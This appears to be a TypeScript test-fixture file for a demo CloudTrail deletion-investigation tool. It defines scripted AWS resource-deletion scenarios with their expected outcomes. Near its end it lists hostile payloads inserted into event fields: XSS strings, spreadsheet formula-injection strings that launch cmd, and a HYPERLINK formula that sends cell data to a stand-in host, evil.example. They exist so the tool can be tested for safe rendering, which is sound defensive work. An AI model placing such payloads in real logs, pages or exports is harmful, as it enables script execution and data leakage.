import { DEMO_ACCOUNTS } from "../../lib/demo/accounts";
import { stableUuid } from "./prng";

/**
 * The deletion stories the demo dataset tells (issue 3), as data: tests and the investigation page's
 * checks refer to them by id. The events behind them are scripted in story-events.ts, at fixed offsets
 * from the dataset's anchor time and with fixed event IDs, so they are the same for every seed.
 */

const [MANAGEMENT, PROD, DEV] = DEMO_ACCOUNTS.map((a) => a.id) as [string, string, string];

export type StoryStatus = "deleted" | "not-deleted" | "unknown";

export interface DemoStory {
  id: string;
  description: string;
  accountId: string;
  region: string;
  /** What a user types into the investigation: the name, ID or ARN the service uses in its events. */
  resourceName: string;
  resourceArn?: string;
  resourceType?: string;
  expected: {
    status: StoryStatus;
    deleterDisplay?: string;
    deletionEventName?: string;
    deletionEventId?: string;
    failedAttempts?: number;
    /** Create → delete cycles of a reused name. */
    cycles?: number;
    /** How many events the resource's ResourceName lookup returns. */
    eventCount?: number;
  };
}

/** The n-th scripted event of a story (0-based) has this event ID whatever the seed or anchor. */
export function storyEventId(storyId: string, n: number): string {
  return stableUuid(`trailscope-story:${storyId}:${n}`);
}

export const KMS_STORY_KEY_ID = "5e1f0c2a-7b3d-4e8f-9a6b-2c4d6e8f0a1b";

export const DEMO_STORIES: readonly DemoStory[] = [
  {
    id: "prod-ec2-sso-terminate",
    description: "An EC2 instance terminated by a person through an IAM Identity Center (SSO) assumed role",
    accountId: PROD,
    region: "us-east-1",
    resourceName: "i-0abc1234",
    resourceArn: `arn:aws:ec2:us-east-1:${PROD}:instance/i-0abc1234`,
    resourceType: "AWS::EC2::Instance",
    expected: {
      status: "deleted",
      deleterDisplay: "carol@example.com via AWSReservedSSO_AdministratorAccess",
      deletionEventName: "TerminateInstances",
      deletionEventId: storyEventId("prod-ec2-sso-terminate", 3),
      eventCount: 4,
    },
  },
  {
    id: "prod-ec2-lookalike-running",
    description: "A running instance whose ID starts with the terminated one's (i-0abc1234…): never deleted",
    accountId: PROD,
    region: "us-east-1",
    resourceName: "i-0abc12345678d9ef0",
    resourceType: "AWS::EC2::Instance",
    expected: { status: "not-deleted", eventCount: 3 },
  },
  {
    id: "prod-asg-terminate",
    description:
      "An instance launched and terminated by EC2 Auto Scaling (invokedBy autoscaling.amazonaws.com)",
    accountId: PROD,
    region: "us-west-2",
    resourceName: "i-07f3c2a1b9d8e6f45",
    resourceType: "AWS::EC2::Instance",
    expected: {
      status: "deleted",
      deleterDisplay: "autoscaling.amazonaws.com",
      deletionEventName: "TerminateInstances",
      deletionEventId: storyEventId("prod-asg-terminate", 1),
      eventCount: 2,
    },
  },
  {
    id: "management-root-bucket",
    description: "An S3 bucket deleted by the account's root user from the console",
    accountId: MANAGEMENT,
    region: "us-east-1",
    resourceName: "mgmt-legacy-exports-2019",
    resourceArn: "arn:aws:s3:::mgmt-legacy-exports-2019",
    resourceType: "AWS::S3::Bucket",
    expected: {
      status: "deleted",
      deleterDisplay: "root",
      deletionEventName: "DeleteBucket",
      deletionEventId: storyEventId("management-root-bucket", 3),
      eventCount: 3,
    },
  },
  {
    id: "prod-bucket-failed-attempts",
    description:
      "A bucket whose first DeleteBucket attempts failed (AccessDenied, then BucketNotEmpty) before one succeeded",
    accountId: PROD,
    region: "us-east-1",
    resourceName: "prod-app-logs-archive",
    resourceArn: "arn:aws:s3:::prod-app-logs-archive",
    resourceType: "AWS::S3::Bucket",
    expected: {
      status: "deleted",
      deleterDisplay: "bob",
      deletionEventName: "DeleteBucket",
      deletionEventId: storyEventId("prod-bucket-failed-attempts", 4),
      failedAttempts: 2,
      eventCount: 5,
    },
  },
  {
    id: "dev-lambda-orders-reused",
    description: "A Lambda function name reused: `orders` created, deleted, created again and deleted again",
    accountId: DEV,
    region: "us-east-1",
    resourceName: "orders",
    resourceArn: `arn:aws:lambda:us-east-1:${DEV}:function:orders`,
    resourceType: "AWS::Lambda::Function",
    expected: {
      status: "deleted",
      deleterDisplay: "dave",
      deletionEventName: "DeleteFunction20150331",
      deletionEventId: storyEventId("dev-lambda-orders-reused", 5),
      cycles: 2,
      eventCount: 6,
    },
  },
  {
    id: "dev-lambda-orders-archive",
    description: "`orders-archive`, a look-alike of `orders`, created and updated but never deleted",
    accountId: DEV,
    region: "us-east-1",
    resourceName: "orders-archive",
    resourceArn: `arn:aws:lambda:us-east-1:${DEV}:function:orders-archive`,
    resourceType: "AWS::Lambda::Function",
    expected: { status: "not-deleted", eventCount: 2 },
  },
  {
    id: "management-iam-role",
    description: "A global IAM role (recorded in us-east-1) detached and deleted by a person through SSO",
    accountId: MANAGEMENT,
    region: "us-east-1",
    resourceName: "LegacyDeployRole",
    resourceArn: `arn:aws:iam::${MANAGEMENT}:role/LegacyDeployRole`,
    resourceType: "AWS::IAM::Role",
    expected: {
      status: "deleted",
      deleterDisplay: "frank@example.com via AWSReservedSSO_AdministratorAccess",
      deletionEventName: "DeleteRole",
      deletionEventId: storyEventId("management-iam-role", 3),
      eventCount: 4,
    },
  },
  {
    id: "prod-eu-rds",
    description: "An RDS DB instance in eu-west-1 deleted by an IAM user with the AWS CLI",
    accountId: PROD,
    region: "eu-west-1",
    resourceName: "eu-reporting-db",
    resourceArn: `arn:aws:rds:eu-west-1:${PROD}:db:eu-reporting-db`,
    resourceType: "AWS::RDS::DBInstance",
    expected: {
      status: "deleted",
      deleterDisplay: "bob",
      deletionEventName: "DeleteDBInstance",
      deletionEventId: storyEventId("prod-eu-rds", 2),
      eventCount: 3,
    },
  },
  {
    id: "dev-sns-topic-arn",
    description: "An SNS topic whose events name it only by ARN (DeleteTopic carries topicArn)",
    accountId: DEV,
    region: "us-west-2",
    resourceName: `arn:aws:sns:us-west-2:${DEV}:build-alerts`,
    resourceArn: `arn:aws:sns:us-west-2:${DEV}:build-alerts`,
    resourceType: "AWS::SNS::Topic",
    expected: {
      status: "deleted",
      deleterDisplay: "dave",
      deletionEventName: "DeleteTopic",
      deletionEventId: storyEventId("dev-sns-topic-arn", 2),
      eventCount: 3,
    },
  },
  {
    id: "prod-kms-key-resources",
    description: "A KMS key scheduled for deletion; its records carry resources[] with the key ARN",
    accountId: PROD,
    region: "us-east-1",
    resourceName: `arn:aws:kms:us-east-1:${PROD}:key/${KMS_STORY_KEY_ID}`,
    resourceArn: `arn:aws:kms:us-east-1:${PROD}:key/${KMS_STORY_KEY_ID}`,
    resourceType: "AWS::KMS::Key",
    expected: {
      status: "deleted",
      deleterDisplay: "carol@example.com via AWSReservedSSO_AdministratorAccess",
      deletionEventName: "ScheduleKeyDeletion",
      deletionEventId: storyEventId("prod-kms-key-resources", 2),
      eventCount: 3,
    },
  },
  {
    id: "prod-table-never-deleted",
    description: "A DynamoDB table created and modified, never deleted",
    accountId: PROD,
    region: "us-east-1",
    resourceName: "prod-orders",
    resourceArn: `arn:aws:dynamodb:us-east-1:${PROD}:table/prod-orders`,
    resourceType: "AWS::DynamoDB::Table",
    expected: { status: "not-deleted", eventCount: 3 },
  },
  {
    id: "dev-unknown-name",
    description: "A name with no events in the 90 days (deleted long ago, or never existed)",
    accountId: DEV,
    region: "us-east-1",
    resourceName: "legacy-reports-2021",
    expected: { status: "unknown", eventCount: 0 },
  },
];

export function demoStory(id: string): DemoStory {
  const story = DEMO_STORIES.find((s) => s.id === id);
  if (!story) throw new Error(`no demo story ${id}`);
  return story;
}

/** Marker every script payload sets (`window.__xss = …`): a test asserts it never becomes defined. */
export const HOSTILE_MARKER = "__xss";

export interface HostileEvent {
  eventId: string;
  accountId: string;
  region: string;
  eventName: string;
  /** Where the payload sits in the record. */
  fields: string[];
  payloads: string[];
}

export const HOSTILE_PAYLOADS = {
  script: "<script>window.__xss=1</script>",
  img: '<img src=x onerror="window.__xss=2">',
  tag: "<script>window.__xss=3</script><b>bold</b>",
  svg: "<svg onload=window.__xss=4>",
  consoleImg: "<img src=x onerror=window.__xss=5>",
  hyperlink: '=HYPERLINK("https://evil.example/?leak="&A1,"Open details")',
  plus: "+cmd|' /C calc'!A0",
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
} as const;

export const HOSTILE_EVENTS: readonly HostileEvent[] = [
  {
    eventId: storyEventId("dev-hostile", 0),
    accountId: DEV,
    region: "us-east-1",
    eventName: "RunInstances",
    fields: ["userAgent", "errorMessage"],
    payloads: [HOSTILE_PAYLOADS.script, HOSTILE_PAYLOADS.hyperlink],
  },
  {
    eventId: storyEventId("dev-hostile", 1),
    accountId: DEV,
    region: "us-east-1",
    eventName: "CreateBucket",
    fields: ["requestParameters.bucketName", "resources"],
    payloads: [HOSTILE_PAYLOADS.img],
  },
  {
    eventId: storyEventId("dev-hostile", 2),
    accountId: DEV,
    region: "us-east-1",
    eventName: "CreateTags",
    fields: ["requestParameters.tagSet"],
    payloads: [HOSTILE_PAYLOADS.tag, HOSTILE_PAYLOADS.plus],
  },
  {
    eventId: storyEventId("dev-hostile", 3),
    accountId: DEV,
    region: "us-east-1",
    eventName: "CreateUser",
    fields: ["requestParameters.userName", "resources", "errorMessage"],
    payloads: [HOSTILE_PAYLOADS.svg, HOSTILE_PAYLOADS.at, HOSTILE_PAYLOADS.minus],
  },
  {
    eventId: storyEventId("dev-hostile", 4),
    accountId: DEV,
    region: "us-east-1",
    eventName: "ConsoleLogin",
    fields: ["userAgent"],
    payloads: [HOSTILE_PAYLOADS.consoleImg],
  },
];
